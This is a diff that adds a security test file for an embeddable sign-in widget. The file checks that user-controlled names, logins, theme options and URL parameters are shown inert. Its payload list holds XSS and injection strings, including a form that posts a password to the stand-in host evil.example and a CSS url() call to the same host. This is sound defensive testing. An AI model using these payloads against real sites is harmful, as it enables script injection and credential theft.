@@ -1,0 +1,146 @@
+import { expect, type Page } from '@playwright/test';
+import { afterAll, afterEach, beforeAll, test } from 'vitest';
+import { newNonce } from '../clients/typescript/src/index.ts';
+import { hostPage, mountScript } from './harness/host-page.ts';
+import { makePersonWithDevice, makeResource } from './harness/people.ts';
+import { type Stage, setStage } from './harness/stage.ts';
+import { TITLES, widgetOn } from './harness/widget-view.ts';
+
+/**
+ * SR-30. The attack: whoever may name a resource or a user, or merely type a login, writes markup there, so that it runs
+ * where somebody else types their password. Each of these calls `pwned()` if it runs.
+ */
+const CORPUS = [
+  '<script>pwned()</script>',
+  '</title><script>pwned()</script>',
+  '"><img src=x onerror=pwned()>',
+  "'><svg/onload=pwned()>",
+  '</main></body><iframe srcdoc="<script>parent.pwned()</script>">',
+  '<a href="javascript:pwned()">Continue</a>',
+  '<style>*{display:none}</style>',
+  '<meta http-equiv=refresh content="0;url=javascript:pwned()">',
+  '<form action=//evil.example><input name=password></form>',
+  '{{constructor.constructor("pwned()")()}}',
+  `\${pwned()}\`;pwned();//`,
+  '&lt;img src=x onerror=pwned()&gt; &amp; {0}',
+] as const;
+
+const TRAP = `window.ran = []; window.pwned = () => { ran.push(location.href); };`;
+
+let stage: Stage;
+
+beforeAll(async () => {
+  stage = await setStage();
+});
+afterEach(() => stage.clear());
+afterAll(() => stage?.close());
+
+async function openTrapped(url: string): Promise<Page> {
+  const page = await stage.open('about:blank', { before: (context) => context.addInitScript(TRAP) });
+  page.on('dialog', (dialog) => dialog.dismiss());
+  await page.goto(url);
+  return page;
+}
+
+async function expectInert(page: Page): Promise<void> {
+  for (const frame of page.frames()) {
+    expect(await frame.evaluate(() => (window as unknown as { ran?: string[] }).ran ?? [])).toEqual([]);
+  }
+}
+
+test('in the name of a resource, as its sign-in shows it', async () => {
+  const { client, url } = stage.service;
+  const resources = await Promise.all(CORPUS.map((name) => makeResource(client, stage.host.origin, { name })));
+  const body = resources.map((_, index) => `<div id="w${index}"></div>`).join('');
+  const script = resources
+    .map(({ id }, index) => mountScript(`w${index}`, { resource: id, nonce: newNonce() }))
+    .join('');
+  const page = await openTrapped(stage.host.put(hostPage({ service: url, body, script })));
+  for (const [index, name] of CORPUS.entries()) {
+    const { frame, heading } = widgetOn(page, `#w${index}`);
+    await expect(heading).toHaveText(TITLES.identify);
+    // Shown as it was written, and nothing came out of it.
+    await expect(frame.locator('header')).toHaveText(name);
+    await expect(frame.locator('iframe, img, a, meta[http-equiv], form[action], title script')).toHaveCount(0);
+    expect(await frame.locator('html').evaluate(() => document.title)).toBe(name);
+  }
+  await expectInert(page);
+});
+
+test('in a login that is typed, shown at the next step and after a wrong answer', async () => {
+  const { id } = await makeResource(stage.service.client, stage.host.origin);
+  const script = mountScript('here', { resource: id, nonce: newNonce() });
+  const page = await openTrapped(
+    stage.host.put(hostPage({ service: stage.service.url, body: '<div id="here"></div>', script })),
+  );
+  const widget = widgetOn(page);
+  for (const login of CORPUS) {
+    await widget.identify(login);
+    await expect(widget.frame.getByLabel('Signing in as')).toHaveValue(login);
+    await widget.button('Not you?').click();
+  }
+  await expectInert(page);
+});
+
+test('in the login of a user whom the host names', async () => {
+  const { client, url } = stage.service;
+  const { id: resource } = await makeResource(client, stage.host.origin);
+  // A login has no spaces and at most 50 characters.
+  const logins = CORPUS.map((text) => text.replaceAll(' ', '/').slice(0, 50));
+  const mounts = await Promise.all(
+    logins.map(async (login) => {
+      await makePersonWithDevice(client, resource, {
+        user: { login, firstName: login, secondName: login },
+        token: { name: login },
+      });
+      const nonce = newNonce();
+      const { loginRequest } = await client.createLoginRequest({ user: login, resource, nonce, passwordChecked: true });
+      return { resource, nonce, loginRequest };
+    }),
+  );
+  const body = mounts.map((_, index) => `<div id="w${index}"></div>`).join('');
+  const script = mounts.map((options, index) => mountScript(`w${index}`, options)).join('');
+  const page = await openTrapped(stage.host.put(hostPage({ service: url, body, script })));
+  for (const [index, login] of logins.entries()) {
+    const { frame } = widgetOn(page, `#w${index}`);
+    await expect(frame.getByLabel('Signing in as')).toHaveValue(login);
+    await expect(frame.locator('iframe, img, a, meta[http-equiv], form[action], title script')).toHaveCount(0);
+  }
+  await expectInert(page);
+});
+
+test('in what the page says about looks and words', async () => {
+  const { id } = await makeResource(stage.service.client, stage.host.origin);
+  const nasty = {
+    accent: 'red;background:url(//evil.example)',
+    font: '"><script>pwned()</script>',
+    radius: 'calc(1px)',
+  };
+  const options = {
+    theme: CORPUS[0],
+    locale: CORPUS[2],
+    title: CORPUS[3],
+    variables: { ...nasty, background: 'url(x)' },
+  };
+  const script = mountScript('here', { resource: id, nonce: newNonce(), ...options });
+  const page = await openTrapped(
+    stage.host.put(hostPage({ service: stage.service.url, body: '<div id="here"></div>', script })),
+  );
+  const { heading, frame } = widgetOn(page);
+  await expect(heading).toHaveText(TITLES.identify);
+  expect(await frame.locator('html').getAttribute('style')).not.toMatch(/url|script|calc|red/);
+  await expect(page.locator('#here iframe')).toHaveAttribute('title', CORPUS[3]);
+  await expectInert(page);
+});
+
+test('in the address of the frame, which says what is refused', async () => {
+  const page = await openTrapped('about:blank');
+  for (const text of CORPUS) {
+    const query = new URLSearchParams({ resource: text, origin: text });
+    await page.goto(`${stage.service.url}/widget/v1/frame?${query}`);
+    await expect(page.locator('h1')).toHaveText('This page may not embed the sign-in');
+    await expect(page.locator('main code').first()).toHaveText(text);
+    await expect(page.locator('script, img, iframe, a, svg')).toHaveCount(0);
+  }
+  await expectInert(page);
+});
